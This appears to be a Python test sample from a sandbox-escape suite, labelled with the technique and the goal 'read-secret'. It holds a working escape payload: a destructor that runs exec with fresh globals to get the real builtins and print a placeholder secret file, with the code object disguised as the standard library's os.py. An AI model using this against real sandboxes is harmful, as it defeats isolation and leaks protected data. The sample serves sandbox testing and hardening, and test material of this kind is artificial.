# technique: a destructor is exec with fresh globals: on an empty stack it gets the real builtins
# goal: read-secret
# source: own analysis: the default builtins of exec
import functools
code = compile('print(open("@SECRET@").read(), flush=True)', '@STDLIB@/os.py', 'exec')


class Last:
    __del__ = staticmethod(functools.partial(exec, code, {}))


last = Last()
